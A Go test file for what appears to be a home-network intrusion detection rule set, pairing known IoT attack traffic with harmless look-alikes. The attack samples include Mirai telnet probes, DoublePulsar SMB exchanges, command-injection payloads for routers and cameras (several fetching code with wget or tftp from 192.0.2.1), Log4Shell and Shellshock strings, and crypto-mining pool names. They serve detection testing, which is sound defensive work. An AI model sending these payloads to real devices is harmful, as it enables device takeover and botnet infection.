package homerules_test

const (
	soap = `<?xml version="1.0"?><s:Envelope><s:Body>`
)

// cases has what each rule is for, and beside it what looks like it and is
// harmless: those want nothing.
var cases = []struct {
	name string
	talk
	want []uint32
}{
	{"Mirai's loader", talk{from: out, to: cam, port: 23, say: []string{"root\r\n", "Password: ", "enable\r\nsystem\r\nshell\r\nsh\r\n/bin/busybox ECCHI\r\n", "ECCHI: applet not found\r\n# "}}, []uint32{1741001, 1741002}},
	{"an applet that is there", talk{from: pc, to: cam, port: 23, say: []string{"root\r\n", "# ", "/bin/busybox wget -V\r\n/bin/busybox LS\r\n", "wget: applet not found\r\n# "}}, nil},
	{"an article about Mirai", talk{from: pc, to: web, port: 80, say: []string{get("/mirai"), "HTTP/1.1 200 OK\r\nContent-Length: 60\r\n\r\nIt says /bin/busybox ECCHI\r\n and ECCHI: applet not found\r\n...."}}, nil},
	{"posting about Mirai", talk{from: pc, to: web, port: 80, say: []string{post("POST", "/forum", "It says /bin/busybox ECCHI\r\n"), ok}}, nil},
	{"a worm's folders", talk{from: out, to: cam, port: 2323, say: []string{"x\r\n", "# ", "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget\r\n"}}, []uint32{1741003}},
	{"a folder", talk{from: pc, to: cam, port: 23, say: []string{"x\r\n", "# ", "cd /tmp || mkdir /tmp\r\n"}}, nil},
	{"a worm's password", talk{from: out, to: cam, port: 23, say: []string{"root\r\n", "Password: ", "xc3511\r\n", "login incorrect\r\n"}}, []uint32{1741004}},
	{"a password of one's own", talk{from: pc, to: cam, port: 23, say: []string{"root\r\n", "Password: ", "xc3511-but-longer\r\n", "# "}}, nil},
	{"Mozi", talk{from: cam, to: out, port: 14737, udp: true, say: []string{"d1:ad2:id20:88888888\x01\x02\x03\x04\x05\x06\x07\x08\x09\x0a\x0b\x0ce1:q4:ping1:t4:aaaa1:v4:JBls1:y1:qe"}}, []uint32{1741005}},
	{"BitTorrent", talk{from: pc, to: out, port: 6881, udp: true, say: []string{"d1:ad2:id20:8888888a\x01\x02\x03\x04\x05\x06\x07\x08\x09\x0a\x0b\x0ce1:q4:ping1:t4:aaaa1:y1:qe"}}, nil},

	{"DoublePulsar", talk{from: pc, to: cam, port: 445, say: []string{smb(0x72, 0, 0x40, "\x00\x00\x00"), smb(0x72, 0, 0x40, "\x00\x00\x00"),
		smb(0x32, 0, 0x41, trans2(0x0e)), smb(0x32, 0xc0000002, 0x51, "\x00\x00\x00")}}, []uint32{1741010, 1741011}},
	{"a clean machine asked", talk{from: pc, to: cam, port: 445, say: []string{smb(0x72, 0, 0x40, "\x00\x00\x00"), smb(0x72, 0, 0x40, "\x00\x00\x00"),
		smb(0x32, 0, 0x41, trans2(0x0e)), smb(0x32, 0xc0000002, 0x41, "\x00\x00\x00")}}, []uint32{1741010}},
	{"listing a folder", talk{from: pc, to: cam, port: 445, say: []string{smb(0x72, 0, 0x40, "\x00\x00\x00"), smb(0x72, 0, 0x40, "\x00\x00\x00"),
		smb(0x32, 0, 0x41, trans2(0x01)), smb(0x32, 0xc0000002, 0x51, "\x00\x00\x00")}}, nil},
	{"SMB1 from outside", talk{from: out, to: cam, port: 445, say: []string{smb(0x72, 0, 1, "\x00\x0c\x00\x02NT LM 0.12\x00")}}, []uint32{1741012}},
	{"SMB1 at home", talk{from: pc, to: cam, port: 445, say: []string{smb(0x72, 0, 1, "\x00\x0c\x00\x02NT LM 0.12\x00")}}, nil},

	{"ADB from outside", talk{from: out, to: cam, port: 5555, say: []string{adb("CNXN", "host::\x00"), adb("CNXN", "device::\x00"), adb("OPEN", "shell:cd /data\x00")}}, []uint32{1741020, 1741021}},
	{"ADB from outside without shell", talk{from: out, to: cam, port: 5555, say: []string{adb("CNXN", "host::\x00"), adb("CNXN", "device::\x00"), adb("OPEN", "sync:\x00")}}, []uint32{1741020}},
	{"ADB of a developer", talk{from: pc, to: cam, port: 5555, say: []string{adb("CNXN", "host::\x00"), adb("CNXN", "device::\x00"), adb("OPEN", "shell:ls\x00")}}, nil},
	{"a device looks for ADB", talk{from: cam, to: out, port: 5555, say: []string{adb("CNXN", "host::\x00")}, times: 3}, []uint32{1741022}},
	{"one phone elsewhere", talk{from: pc, to: out, port: 5555, say: []string{adb("CNXN", "host::\x00")}, times: 2}, nil},

	{"Huawei HG532", talk{from: out, to: cam, port: 37215, say: []string{post("POST", "/ctrlt/DeviceUpgrade_1", soap+`<u:Upgrade><NewStatusURL>$(/bin/busybox wget -g 192.0.2.1)</NewStatusURL>`), ok}}, []uint32{1741030}},
	{"an upgrade of an HG532", talk{from: pc, to: cam, port: 37215, say: []string{post("POST", "/ctrlt/DeviceUpgrade_1", soap+`<u:Upgrade><NewStatusURL>http://192.0.2.1/s</NewStatusURL>`), ok}}, nil},
	{"Realtek SDK", talk{from: out, to: cam, port: 52869, say: []string{post("POST", "/picsdesc.xml", soap+"<u:AddPortMapping><NewInternalClient>`cd /var; rm -rf x`</NewInternalClient>"), ok}}, []uint32{1741031}},
	{"a port mapping", talk{from: pc, to: cam, port: 52869, say: []string{post("POST", "/picsdesc.xml", soap+"<u:AddPortMapping><NewInternalClient>192.168.1.2</NewInternalClient><d>`game`</d>"), ok}}, nil},
	{"Zyxel TR-064", talk{from: out, to: cam, port: 7547, say: []string{post("POST", "/UD/act?1", soap+"<NewNTPServer1>`cd /tmp;./x`</NewNTPServer1>"), ok}}, []uint32{1741032}},
	{"a time server", talk{from: out, to: cam, port: 7547, say: []string{post("POST", "/UD/act?1", soap+"<NewNTPServer1>ntp.example.net</NewNTPServer1>"), ok}}, nil},
	{"GPON", talk{from: out, to: cam, port: 8080, say: []string{post("POST", "/GponForm/diag_Form?images/", "XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`id`&ipv=0"), ok}}, []uint32{1741033}},
	{"a ping by GPON", talk{from: pc, to: cam, port: 8080, say: []string{post("POST", "/GponForm/diag_Form", "XWebPageName=diag&diag_action=ping&dest_host=192.0.2.1&ipv=0"), ok}}, nil},
	{"D-Link HNAP", talk{from: out, to: cam, port: 80, say: []string{get("/HNAP1/", "SOAPAction: \"http://purenetworks.com/HNAP1/GetDeviceSettings/`telnetd`\""), ok}}, []uint32{1741034}},
	{"HNAP of an app", talk{from: pc, to: cam, port: 80, say: []string{get("/HNAP1/", `SOAPAction: "http://purenetworks.com/HNAP1/GetDeviceSettings"`), ok}}, nil},
	{"Netgear setup.cgi", talk{from: out, to: cam, port: 80, say: []string{get("/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=ls&curpath=/&currentsetting.htm=1"), ok}}, []uint32{1741035}},
	{"a page of setup.cgi", talk{from: pc, to: cam, port: 80, say: []string{get("/setup.cgi?next_file=basic.htm&todo=save"), ok}}, nil},
	{"Zyxel NAS", talk{from: out, to: cam, port: 80, say: []string{get("/adv,/cgi-bin/weblogin.cgi?username=admin%27%3bls&password=x"), ok}}, []uint32{1741036}},
	{"O'Brien's login", talk{from: pc, to: cam, port: 80, say: []string{get("/adv,/cgi-bin/weblogin.cgi?username=o%27brien&password=a;b"), ok}}, nil},
	{"Zyxel firewall", talk{from: out, to: cam, port: 443, say: []string{post("POST", "/ztp/cgi-bin/handler", `{"command":"setWanPortSt","proto":"dhcp","port":"4","vlan_tagged":"1","vlanid":"5","mtu":"; sleep 5;","data":"hi"}`), ok}}, []uint32{1741037}},
	{"a WAN port set", talk{from: pc, to: cam, port: 443, say: []string{post("POST", "/ztp/cgi-bin/handler", `{"command":"setWanPortSt","proto":"dhcp","port":"4","mtu":"1500","data":"hi"}`), ok}}, nil},
	{"TP-Link", talk{from: out, to: cam, port: 80, say: []string{get("/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id>/tmp/x)"), ok}}, []uint32{1741038}},
	{"a country", talk{from: pc, to: cam, port: 80, say: []string{get("/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=JP"), ok}}, nil},
	{"MVPower", talk{from: out, to: cam, port: 80, say: []string{get("/shell?cat+/etc/passwd"), ok}}, []uint32{1741039}},
	{"a shop of shells", talk{from: pc, to: web, port: 80, say: []string{get("/shell?category=conch"), ok}}, nil},
	{"Hikvision", talk{from: out, to: cam, port: 80, say: []string{post("PUT", "/SDK/webLanguage", `<?xml version="1.0"?><language>$(id>x)</language>`), ok}}, []uint32{1741040}},
	{"a language", talk{from: pc, to: cam, port: 80, say: []string{post("PUT", "/SDK/webLanguage", `<?xml version="1.0"?><language>ja</language>`), ok}}, nil},
	{"Log4Shell", talk{from: out, to: cam, port: 8080, say: []string{get("/", "User-Agent: ${jndi:ldap://192.0.2.1/a}"), ok}}, []uint32{1741041}},
	{"a variable", talk{from: out, to: cam, port: 8080, say: []string{get("/", "User-Agent: ${version} jndi:ldap"), ok}}, nil},
	{"Shellshock", talk{from: out, to: cam, port: 80, say: []string{get("/cgi-bin/x", "User-Agent: () { :;}; /bin/ping -c1 192.0.2.1"), ok}}, []uint32{1741042}},
	{"a function", talk{from: pc, to: web, port: 80, say: []string{get("/js", "X-Code: f() { return 1 } g()"), ok}}, nil},

	{"wget in an address", talk{from: out, to: cam, port: 80, say: []string{get("/cgi-bin/x?a=1;wget+http://192.0.2.1/m.sh+-O+/tmp/m"), ok}}, []uint32{1741045}},
	{"wget in an address, quoted", talk{from: out, to: cam, port: 80, say: []string{get("/cgi-bin/x?a=%60/bin/busybox%20wget%20-q%20192.0.2.1/m%60"), ok}}, []uint32{1741045}},
	{"a search for wget", talk{from: pc, to: web, port: 80, say: []string{get("/search?q=a&b=wget+http://example.com+-O&c=1"), ok}}, nil},
	{"tftp in an address", talk{from: out, to: cam, port: 80, say: []string{get("/cgi-bin/x?a=$(tftp+-g+-r+m+192.0.2.1)"), ok}}, []uint32{1741046}},
	{"a search for tftp", talk{from: pc, to: web, port: 80, say: []string{get("/search?q=tftp+-g+server"), ok}}, nil},
	{"wget in a form", talk{from: out, to: cam, port: 80, say: []string{post("POST", "/boaform/admin/formPing", "target_addr=%3Bwget%20http%3A//192.0.2.1/m%20-O%20/tmp/m&waninf=1"), ok}}, []uint32{1741047}},
	{"a form about wget", talk{from: pc, to: cam, port: 80, say: []string{post("POST", "/notes", "text=use+wget+http://example.com/x"), ok}}, nil},
	{"a script for a site outside", talk{from: pc, to: web, port: 80, say: []string{post("POST", "/paste", "cd /opt; wget http://example.com/x"), ok}}, nil},

	{"XMRig", talk{from: pc, to: web, port: 80, say: []string{get("/files/xmrig-6.21.0-linux-static-x64.tar.gz"), ok}}, []uint32{1741050}},
	{"about XMRig", talk{from: pc, to: web, port: 80, say: []string{get("/docs/xmrig-6.html"), ok}}, nil},
	{"supportxmr", talk{from: pc, to: out, port: 53, udp: true, say: []string{query("pool.supportxmr.com")}}, []uint32{1741051}},
	{"not supportxmr", talk{from: pc, to: out, port: 53, udp: true, say: []string{query("notsupportxmr.com")}}, nil},
	{"moneroocean", talk{from: pc, to: out, port: 53, udp: true, say: []string{query("gulf.moneroocean.stream")}}, []uint32{1741052}},
	{"moneroocean elsewhere", talk{from: pc, to: out, port: 53, udp: true, say: []string{query("moneroocean.stream.example.com")}}, nil},
	{"nanopool", talk{from: pc, to: out, port: 53, udp: true, say: []string{query("XMR-EU1.nanopool.org")}}, []uint32{1741053}},
	{"not nanopool", talk{from: pc, to: out, port: 53, udp: true, say: []string{query("nanopool.org.example")}}, nil},
	{"hashvault", talk{from: pc, to: out, port: 53, udp: true, say: []string{query("pool.hashvault.pro")}}, []uint32{1741054}},
	{"not hashvault", talk{from: pc, to: out, port: 53, udp: true, say: []string{query("myhashvault.pro")}}, nil},
	{"supportxmr by TLS", talk{from: pc, to: out, port: 443, say: []string{hello("pool.supportxmr.com")}}, []uint32{1741061}},
	{"not supportxmr by TLS", talk{from: pc, to: out, port: 443, say: []string{hello("supportxmr.com.example")}}, nil},
	{"moneroocean by TLS", talk{from: pc, to: out, port: 20128, say: []string{hello("gulf.moneroocean.stream")}}, []uint32{1741062}},
	{"not moneroocean by TLS", talk{from: pc, to: out, port: 443, say: []string{hello("amoneroocean.stream")}}, nil},
	{"nanopool by TLS", talk{from: pc, to: out, port: 10343, say: []string{hello("xmr-eu1.nanopool.org")}}, []uint32{1741063}},
	{"not nanopool by TLS", talk{from: pc, to: out, port: 443, say: []string{hello("xnanopool.org")}}, nil},
	{"hashvault by TLS", talk{from: pc, to: out, port: 443, say: []string{hello("pool.hashvault.pro")}}, []uint32{1741064}},
	{"not hashvault by TLS", talk{from: pc, to: out, port: 443, say: []string{hello("hashvault.pro.example")}}, nil},
}
